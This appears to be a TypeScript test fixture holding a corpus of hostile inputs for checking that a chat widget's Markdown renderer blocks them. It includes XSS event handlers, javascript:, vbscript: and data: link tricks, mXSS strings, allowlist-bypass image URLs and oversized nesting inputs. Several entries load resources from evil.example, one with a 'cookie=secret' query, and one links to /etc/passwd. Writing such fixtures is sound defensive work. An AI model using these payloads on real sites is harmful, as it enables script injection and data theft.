/**
 * Hostile inputs for the Markdown renderer: each is something a person or a model could send to
 * make the widget run script, load a remote resource, or point a link somewhere unsafe. Script
 * payloads call `__pwned()`, a sentinel the safety test installs on `window`.
 *
 * The image allowlist in the safety test is `HOSTILE_ALLOWED_IMAGE_HOST`; several entries try to
 * sneak past it. No entry may resolve to that host for real, since loading it would be correct.
 */

/** One hostile input; `expectText`, if set, must appear as visible text (proving it was not markup). */
export interface HostileInput {
  name: string;
  source: string;
  expectText?: string;
}

/** The host the safety test allowlists for images. */
export const HOSTILE_ALLOWED_IMAGE_HOST = 'images.chorus.test';

const ALLOWED = HOSTILE_ALLOWED_IMAGE_HOST;
const SCRIPT = '<script>__pwned()</script>';

type Entry = [name: string, source: string, expectText?: string];

const HTML_AND_EVENT_HANDLERS: Entry[] = [
  ['script tag', SCRIPT, '<script>'],
  [
    'script tag, upper case, remote src',
    '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
    '<SCRIPT',
  ],
  ['script with data: src', '<script src="data:text/javascript,__pwned()"></script>'],
  ['img onerror', '<img src=x onerror=__pwned()>', '<img src=x onerror=__pwned()>'],
  ['remote img with onerror', '<img src="https://evil.example/x.png" onerror="__pwned()">'],
  ['img javascript: src', '<IMG SRC=javascript:__pwned()>'],
  ['img onerror with entity-encoded handler', '<img src=x onerror="&#95;&#95;pwned()">'],
  ['img with slashes instead of spaces', '<img/src=x/onerror=__pwned()>'],
  ['img with newline before =', '<img src=x onerror\n=__pwned()>'],
  ['img with backtick-quoted handler', '<img src=x onerror=`__pwned()`>'],
  ['img with upper-case handler', '<img src=x ONERROR=__pwned()>'],
  ['body onload', '<body onload=__pwned()>'],
  ['body/onload', '<body/onload=__pwned()>'],
  ['div onmouseover', '<div onmouseover="__pwned()">hover</div>'],
  ['a onclick', '<a href="#" onclick="__pwned()">click</a>'],
  ['input autofocus onfocus', '<input autofocus onfocus=__pwned()>'],
  ['select autofocus onfocus', '<select autofocus onfocus=__pwned()>'],
  ['textarea autofocus onfocus', '<textarea autofocus onfocus=__pwned()>'],
  ['details ontoggle', '<details open ontoggle=__pwned()>'],
  [
    'popover onbeforetoggle',
    '<div popover id=p onbeforetoggle=__pwned()>x</div><button popovertarget=p>',
  ],
  ['video source onerror', '<video><source onerror=__pwned()></video>'],
  ['audio onerror', '<audio src=x onerror=__pwned()>'],
  ['marquee onstart', '<marquee onstart=__pwned()>x</marquee>'],
  [
    'animation start handler',
    '<style>@keyframes k{}</style><div style="animation-name:k" onanimationstart="__pwned()">',
  ],
  ['pointer handler', '<p onpointerenter=__pwned()>x</p>'],
  ['custom element handler', '<x-foo onclick=__pwned()>x</x-foo>'],
  ['inline style url(javascript:)', '<div style="background:url(javascript:__pwned())">x</div>'],
  ['html a javascript:', '<a href="javascript:__pwned()">click</a>'],
  ['isindex', '<isindex action=javascript:__pwned() type=image>'],
];

const SVG_MATH_AND_EMBEDS: Entry[] = [
  ['svg onload', '<svg onload=__pwned()>', '<svg onload=__pwned()>'],
  ['svg script', `<svg><script>__pwned()</script></svg>`],
  ['svg animate onbegin', '<svg><animate onbegin=__pwned() attributeName=x dur=1s>'],
  [
    'svg xlink:href javascript:',
    '<svg><a xlink:href="javascript:__pwned()"><text x=20 y=20>x</text></a></svg>',
  ],
  [
    'svg foreignObject iframe',
    '<svg><foreignObject><iframe srcdoc="<script>parent.__pwned()</script>">',
  ],
  ['math mXSS', '<math><mtext><table><mglyph><style><img src=x onerror=__pwned()>'],
  ['noscript mXSS', '<noscript><p title="</noscript><img src=x onerror=__pwned()>">'],
  ['iframe javascript:', '<iframe src="javascript:parent.__pwned()"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>parent.__pwned()</script>"></iframe>'],
  ['iframe remote', '<iframe src="https://evil.example/"></iframe>'],
  ['object javascript:', '<object data="javascript:__pwned()"></object>'],
  ['object remote', '<object data="https://evil.example/x.swf"></object>'],
  ['embed javascript:', '<embed src="javascript:__pwned()">'],
  ['embed remote', '<embed src="https://evil.example/x.swf">'],
  ['style @import', "<style>@import 'https://evil.example/x.css';</style>"],
  ['style url()', '<style>*{background:url(https://evil.example/bg.png)}</style>', '<style>'],
  ['link stylesheet', '<link rel=stylesheet href=https://evil.example/x.css>'],
  ['link preload', '<link rel=preload as=image href=https://evil.example/x.png>'],
  ['meta refresh javascript:', '<meta http-equiv="refresh" content="0;url=javascript:__pwned()">'],
  ['meta refresh remote', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  ['base href', '<base href="https://evil.example/">[relative](x.html)'],
  ['form action', '<form action="https://evil.example/"><button>Go</button></form>'],
  ['button formaction', '<form><button formaction="javascript:__pwned()">x</button></form>'],
  ['template', '<template><script>__pwned()</script></template>'],
];

const MARKDOWN_LINKS: Entry[] = [
  ['link javascript:', '[click](javascript:__pwned())', 'click'],
  ['link JAVASCRIPT:', '[click](JAVASCRIPT:__pwned())'],
  ['link mixed-case javascript:', '[click](JaVaScRiPt:__pwned())'],
  ['link leading space', '[click]( javascript:__pwned())'],
  ['link with tab in scheme', '[click](java\tscript:__pwned())'],
  ['link with newline in scheme', '[click](java\nscript:__pwned())'],
  ['link with entity tab', '[click](java&#x09;script:__pwned())'],
  ['link with hex entity', '[click](jav&#x61;script:__pwned())'],
  ['link with decimal entity', '[click](jav&#97;script:__pwned())'],
  [
    'link fully entity-encoded',
    '[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;__pwned())',
  ],
  ['link &colon;', '[click](javascript&colon;__pwned())'],
  ['link percent-encoded scheme', '[click](java%73cript:__pwned())'],
  ['link with control character', '[click](\u0001javascript:__pwned())'],
  ['link with zero-width space', '[click](java\u200bscript:__pwned())'],
  ['link in angle brackets', '[click](<javascript:__pwned()>)'],
  ['link javascript:// with newline', '[click](javascript://%0A__pwned())'],
  ['link javascript: hiding an https URL', '[click](javascript:/*https://ok.example*/__pwned())'],
  ['link backslash-escaped', '[click](javascript\\:__pwned())'],
  ['link vbscript:', '[click](vbscript:msgbox(1))'],
  ['link VBScript:', '[click](VBScript:__pwned())'],
  [
    'link data:text/html base64',
    '[click](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZCgpPC9zY3JpcHQ+)',
  ],
  ['link data:text/html', '[click](data:text/html,<script>__pwned()</script>)'],
  ['link file:', '[click](file:///etc/passwd)'],
  ['link protocol-relative', '[click](//evil.example/steal)'],
  ['link slash-backslash', '[click](/\\evil.example)'],
  ['link double backslash', '[click](\\\\evil.example)'],
  ['link ftp:', '[click](ftp://evil.example/x)'],
  ['link blob:', '[click](blob:https://evil.example/1234)'],
  ['link intent:', '[click](intent://evil#Intent;end)'],
  ['link chrome:', '[click](chrome://settings)'],
  ['link ws:', '[click](ws://evil.example/socket)'],
  ['link with credentials', '[click](https://good.example@evil.example/)'],
  ['link with RTL override', '[click](https://evil.example\u202e/gpj.exe)'],
  ['link text is another URL', '[https://good.example](https://evil.example/)', 'evil.example'],
  ['link to a look-alike host', '[apple](https://\u0430pple.com/)', 'xn--pple-43d.com'],
  [
    'link text is HTML',
    '[<img src=x onerror=__pwned()>](https://ok.example/)',
    '<img src=x onerror=__pwned()>',
  ],
  ['link text is a script, target javascript:', `[${SCRIPT}](javascript:__pwned())`, '<script>'],
  ['link title with handler', '[x](https://ok.example/ "onmouseover=__pwned()")'],
  ['link with quotes in URL', '[x](https://ok.example/"onmouseover="__pwned())'],
  ['reference-style link', '[x][1]\n\n[1]: javascript:__pwned()', '[1]: javascript:__pwned()'],
  ['autolink javascript:', '<javascript:__pwned()>', 'javascript:__pwned()'],
  ['autolink JAVASCRIPT:', '<JAVASCRIPT:__pwned()>'],
  ['autolink vbscript:', '<vbscript:__pwned()>'],
  ['autolink data:', '<data:text/html,__pwned()>'],
  ['bare javascript: text', 'javascript:__pwned()'],
  ['link nested in link', '[[x](javascript:__pwned())](https://ok.example/)'],
];

const IMAGES: Entry[] = [
  ['image javascript:', '![x](javascript:__pwned())'],
  [
    'remote image with a query string',
    '![x](https://evil.example/p.png?cookie=secret)',
    'evil.example',
  ],
  ['remote image over http', '![x](http://evil.example/p.png)'],
  ['protocol-relative image', '![x](//evil.example/p.png)'],
  ['svg data: image', '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9cGFyZW50Ll9fcHduZWQoKT4=)'],
  ['png data: image', '![x](data:image/png;base64,iVBORw0KGgo=)'],
  ['image alt attribute injection', '![x" onerror="__pwned()](https://evil.example/a.png)'],
  ['image alt is HTML', '![<svg onload=__pwned()>](https://evil.example/a.svg)'],
  ['image host with allowlisted prefix', `![x](https://${ALLOWED}.evil.example/a.png)`],
  ['image allowlisted host in path', `![x](https://evil.example/${ALLOWED}/a.png)`],
  ['image allowlisted host as user name', `![x](https://${ALLOWED}@evil.example/a.png)`],
  ['image allowlisted host over http', `![x](http://${ALLOWED}/a.png)`],
  ['image allowlisted host in fragment', `![x](https://evil.example/#${ALLOWED})`],
  ['image allowlisted host in query', `![x](https://evil.example/a.png?host=${ALLOWED})`],
  [
    'image allowlisted host upper-case prefix',
    `![x](https://${ALLOWED.toUpperCase()}.evil.example/a.png)`,
  ],
  ['image allowlisted host on another port', `![x](https://${ALLOWED}:8443/a.png)`],
  ['image in a link to javascript:', '[![x](https://evil.example/a.png)](javascript:__pwned())'],
  ['image with title', '![x](https://evil.example/a.png "t")'],
];

const ENCODINGS_AND_BROKEN_HTML: Entry[] = [
  ['entity-encoded script', '&lt;script&gt;__pwned()&lt;/script&gt;', '<script>'],
  ['numeric-entity img', '&#60;img src=x onerror=__pwned()&#62;', '<img'],
  ['backslash-escaped script', '\\<script\\>__pwned()\\</script\\>', '<script>'],
  ['script in a code span', '`<script>__pwned()</script>`', '<script>'],
  ['script in a code block', '```html\n<script>__pwned()</script>\n```', '<script>'],
  ['code fence language with quotes', '```" onmouseover="__pwned()\nx\n```'],
  ['code fence language with handler', '```js" autofocus onfocus=__pwned() x="\nalert\n```'],
  ['HTML comment', '<!-- <script>__pwned()</script> -->', '<!--'],
  ['CDATA', '<![CDATA[<script>__pwned()</script>]]>', 'CDATA'],
  ['unclosed img', '<img src=x onerror=__pwned()'],
  ['split script tags', '<scr<script>ipt>__pwned()</scr</script>ipt>'],
  ['double angle bracket', '<<script>__pwned()//<</script>'],
  ['closing textarea', `</textarea>${SCRIPT}`],
  ['closing style', `</style>${SCRIPT}`],
  ['attribute breakout', `"><script>__pwned()</script>`],
  ['single-quote breakout', "'><img src=x onerror=__pwned()>"],
  [
    'xml namespace script',
    '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">__pwned()</x:script>',
  ],
  ['NUL inside a tag name', '<scr\u0000ipt>__pwned()</script>'],
  ['fullwidth angle brackets', '＜script＞__pwned()＜/script＞'],
];

const TEMPLATES_AND_UNICODE: Entry[] = [
  ['JS template literal', '${__pwned()}', '${__pwned()}'],
  ['Angular/Vue expression', "{{constructor.constructor('__pwned()')()}}", '{{constructor'],
  ['ERB', '<%= __pwned() %>'],
  ['Ruby interpolation', '#{__pwned()}'],
  ['template literal producing HTML', "${'<img src=x onerror=__pwned()>'}"],
  ['Thymeleaf', '[[${__pwned()}]]'],
  ['Lit marker look-alike', '<!--?lit$1234$--> lit$1234$ <?lit$1234$>'],
  ['RTL override in text', 'invoice\u202egnp.exe', '\u202e'],
  ['RTL override in link text', '[safe\u202e](https://evil.example/)', 'evil.example'],
  ['zero-width space in host', '[x](https://evil\u200b.example/)'],
  [
    'script in table, heading, quote, list',
    `| ${SCRIPT} |\n|---|\n| [x](javascript:__pwned()) |\n\n# ${SCRIPT}\n> ${SCRIPT}\n- ${SCRIPT}`,
  ],
  [
    'hostile links in a table',
    '| [x](javascript:__pwned()) |\n|---|\n| ![y](https://evil.example/a.png) |',
  ],
  ['hostile link in a heading', '# [x](javascript:__pwned())'],
  ['data: link in a quote', '> [x](data:text/html,__pwned)'],
];

const LONG_AND_NESTED: Entry[] = [
  ['over-long input of img tags', '<img src=x onerror=__pwned()>'.repeat(5_000), '<img src=x'],
  ['over-long input of links', '[x](javascript:__pwned())'.repeat(5_000)],
  ['200,000 characters', 'a'.repeat(200_000)],
  ['quotes nested 5,000 deep', `${'> '.repeat(5_000)}${SCRIPT}`],
  [
    'lists nested 1,000 deep',
    Array.from({ length: 1_000 }, (_, level) => `${'  '.repeat(level)}- ${SCRIPT}`).join('\n'),
  ],
  [
    'mixed quote and list nesting',
    Array.from(
      { length: 500 },
      (_, level) => `${'> '.repeat(level)}- [x](javascript:__pwned())`,
    ).join('\n'),
  ],
  ['10,000 open brackets', `${'['.repeat(10_000)}](javascript:__pwned())`],
  ['50,000 asterisks', '*'.repeat(50_000)],
  ['emphasis nested 2,000 deep', `${'**'.repeat(2_000)}x${'**'.repeat(2_000)}`],
  ['2,000 remote images', '![x](https://evil.example/a.png)'.repeat(2_000)],
  [
    'table 1,000 columns wide',
    `${'|a'.repeat(1_000)}|\n${'|-'.repeat(1_000)}|\n${'|![x](https://evil.example/a.png)'.repeat(1_000)}|`,
  ],
  ['1,000 unclosed fences', '```\n'.repeat(1_000)],
  ['3,000 HTML links', '<a href=javascript:__pwned()>x</a>'.repeat(3_000)],
];

/** At least 100 hostile inputs, grouped by what they try. */
export const HOSTILE_CORPUS: readonly HostileInput[] = [
  ...HTML_AND_EVENT_HANDLERS,
  ...SVG_MATH_AND_EMBEDS,
  ...MARKDOWN_LINKS,
  ...IMAGES,
  ...ENCODINGS_AND_BROKEN_HTML,
  ...TEMPLATES_AND_UNICODE,
  ...LONG_AND_NESTED,
].map(([name, source, expectText]) =>
  expectText === undefined ? { name, source } : { name, source, expectText },
);
